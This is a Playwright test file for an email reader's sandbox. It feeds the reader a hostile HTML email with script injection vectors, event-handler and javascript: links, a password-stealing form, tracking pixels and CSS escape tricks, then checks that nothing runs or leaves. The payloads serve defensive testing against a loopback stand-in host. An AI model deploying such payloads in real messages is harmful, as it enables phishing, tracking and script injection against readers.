import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, message, test } from './fixtures';
import { frameLoaded, messageFrame, openPath } from './helpers';

/**
 * Hostile HTML must not run, load, post or navigate. Every remote reference points at a loopback
 * listener standing in for the internet, so "no request leaves" is something we can count.
 */
function hostileHtml(origin: string) {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=${origin}/refresh">
<base href="${origin}/base/">
<link rel="stylesheet" href="${origin}/style.css">
<style>@import url("${origin}/import.css"); body { background: url(${origin}/css-bg.gif); }</style>
<script>window.__pwned = 'head script'; fetch('${origin}/fetch');</script>
</head>
<body onload="window.__pwned='body onload'">
<h2>Your mailbox is full</h2>
<script>window.__pwned = 'script'; new Image().src = '${origin}/script-img';</script>
<img src="x" onerror="window.__pwned='onerror'; fetch('${origin}/onerror')">
<img src="${origin}/pixel.gif" alt="pixel">
<a id="js" href="javascript:window.__pwned='javascript link'">Verify account</a>
<a id="data" href="data:text/html,<script>parent.__pwned=1</script>">Details</a>
<a id="ext" href="${origin}/phish">https://login.microsoftonline.com/</a>
<form action="${origin}/steal" method="post"><input name="password" type="password" value="hunter2"><button id="submit" type="submit">Sign in</button></form>
<iframe src="${origin}/iframe"></iframe>
<object data="${origin}/object"></object>
<embed src="${origin}/embed">
<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned='svg'</script><image href="${origin}/svg-image"/></svg>
<div style="background:url('${origin}/inline-bg.gif')">styled</div>
<video poster="${origin}/poster.gif"></video>
<img srcset="${origin}/srcset.gif 2x">
</body></html>`;
}

test('hostile HTML: no script runs, no request leaves, nothing navigates', async ({
  page,
  harness,
  remote,
  workDir,
}) => {
  const path = join(workDir, 'hostile.eml');
  writeFileSync(
    path,
    message({ subject: 'Action required: mailbox full', html: hostileHtml(remote.origin) }),
  );

  const mainFrameNavigations: string[] = [];
  const foreignRequests: string[] = [];
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) mainFrameNavigations.push(frame.url());
  });
  page.on('request', (request) => {
    const url = request.url();
    const ours = [harness.origin, harness.frameOrigin ?? harness.origin, 'data:', 'about:'];
    if (!ours.some((origin) => url.startsWith(origin))) {
      foreignRequests.push(url);
    }
  });

  await page.goto(harness.url);
  await openPath(page, path);
  await page.getByTestId('message-list').getByRole('option').first().click();
  const frame = messageFrame(page);
  await expect(frame.getByRole('heading', { name: 'Your mailbox is full' })).toBeVisible();

  // Try the links and the form as a person would.
  for (const selector of ['#js', '#data', '#ext', '#submit']) {
    const target = frame.locator(selector);
    if ((await target.count()) > 0) await target.click({ timeout: 2000 }).catch(() => undefined);
  }
  await frameLoaded(page);

  for (const each of page.frames()) {
    const pwned = await each.evaluate(() => (window as { __pwned?: unknown }).__pwned).catch(() => undefined);
    expect(pwned, `window.__pwned in frame ${each.url()}`).toBeUndefined();
  }
  expect(remote.requests).toEqual([]);
  expect(foreignRequests).toEqual([]);
  expect(mainFrameNavigations).toEqual([harness.url]);
  expect(page.url()).toBe(harness.url);
  await expect(page.getByTestId('reader').getByRole('heading', { level: 2 })).toHaveText(
    'Action required: mailbox full',
  );
});

test('CSS escapes cannot hide a remote reference: each is blocked, counted, and loads only when asked', async ({
  page,
  harness,
  remote,
  workDir,
}) => {
  // Four spellings the browser reads as remote URLs: a backslash-newline continuing a string, a
  // hex-escaped letter, an escaped colon, and an image-set string with a line continuation.
  const bs = '\\';
  const colon = remote.origin.indexOf(':');
  const [scheme, rest] = [remote.origin.slice(0, colon), remote.origin.slice(colon + 1)];
  const html = `<html><head><style>
.a{background:url("${remote.origin}/${bs}
continued.gif")}
.b{background:url(${bs}68 ${remote.origin.slice(1)}/hex-letter.gif)}
.c{background:url("${scheme}${bs}3a ${rest}/escaped-colon.gif")}
.d{background-image:image-set("${remote.origin}/${bs}
set.gif" 1x)}
div{width:20px;height:20px}
</style></head><body><h2>Escaped styles</h2>
<div class="a">a</div><div class="b">b</div><div class="c">c</div><div class="d">d</div></body></html>`;
  const path = join(workDir, 'escaped-css.eml');
  writeFileSync(path, message({ subject: 'Escaped styles', html }));

  await page.goto(harness.url);
  await openPath(page, path);
  await page.getByTestId('message-list').getByRole('option').first().click();
  await expect(messageFrame(page).getByRole('heading', { name: 'Escaped styles' })).toBeVisible();
  const banner = page.getByTestId('remote-banner');
  await expect(banner).toContainText('4 remote images and styles');
  await frameLoaded(page);
  expect(remote.requests).toEqual([]);

  await banner.getByRole('button', { name: /load remote content/i }).click();
  await expect
    .poll(() => remote.requests.map((r) => r.url).sort())
    .toEqual(['/continued.gif', '/escaped-colon.gif', '/hex-letter.gif', '/set.gif']);
});
